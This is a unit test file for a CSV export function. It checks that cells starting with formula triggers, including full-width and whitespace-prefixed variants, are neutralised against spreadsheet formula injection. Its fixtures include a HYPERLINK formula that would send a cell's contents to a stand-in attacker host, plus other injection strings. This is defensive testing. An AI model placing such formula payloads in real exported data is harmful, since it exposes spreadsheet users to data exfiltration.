import { describe, expect, it } from 'vitest';
import { toCsv } from '../src/pipeline/reports.js';

/**
 * Report CSVs are opened in spreadsheets. Their cells carry text participants chose (a sender's unique
 * reference and correlation ID reach its recipients' and the operator's traces): a cell a spreadsheet would
 * read as a formula (=, +, -, @ or their full-width forms first, after any whitespace or control characters;
 * or a tab or CR first) must reach it as text (CWE-1236, OWASP CSV Injection).
 */
describe('toCsv: cells a spreadsheet would run as formulas', () => {
  const cellsOf = (csv: string) => csv.trim().split('\r\n')[1];

  it('writes a text cell that starts like a formula with a leading apostrophe, quoted where it must be', () => {
    const rows = [{ a: '=HYPERLINK("https://evil.example/?"&A1,"open")', b: '+1+2', c: '-2+3', d: '@SUM(A1)', e: '\tx', f: '\r=1' }];
    expect(cellsOf(toCsv(rows))).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",'+1+2,'-2+3,'@SUM(A1),'\tx,"'\r=1"`);
  });

  it('guards a trigger after leading whitespace or control characters, and the full-width forms spreadsheets read as = + - @', () => {
    const rows = [{ a: ' =1+1', b: '\t=cmd', c: '\r=1', d: '\n @x', e: '\u0000=1', f: '\u3000-2', g: '\uFF1D1+1', h: '\uFF0B1', i: '\uFF0D1', j: '\uFF20SUM(A1)', k: '  \uFF1D1', l: '\uFE661' }];
    expect(cellsOf(toCsv(rows))).toBe(`' =1+1,'\t=cmd,"'\r=1","'\n @x",'\u0000=1,'\u3000-2,'\uFF1D1+1,'\uFF0B1,'\uFF0D1,'\uFF20SUM(A1),'  \uFF1D1,'\uFE661`);
  });

  it('leaves a text cell with leading spaces and no trigger after them as it is; a negative number as text is guarded as before, a number is not', () => {
    const rows = [{ a: '  plain', b: ' 5', c: '-5', d: -5, e: '\uFF21', f: 'x =1' }];
    expect(cellsOf(toCsv(rows))).toBe(`  plain, 5,'-5,-5,\uFF21,x =1`);
  });

  it('leaves numbers, dates, identifiers and text with those characters further on as they are; a nested text cell is guarded too', () => {
    const rows = [{ n: -5, d: '2026-01-01T00:00:00.000Z', id: 'REF-=1', t: 'a + b', nested: { x: '=no' } }];
    expect(cellsOf(toCsv(rows))).toBe(`-5,2026-01-01T00:00:00.000Z,REF-=1,a + b,'=no`);
  });
});
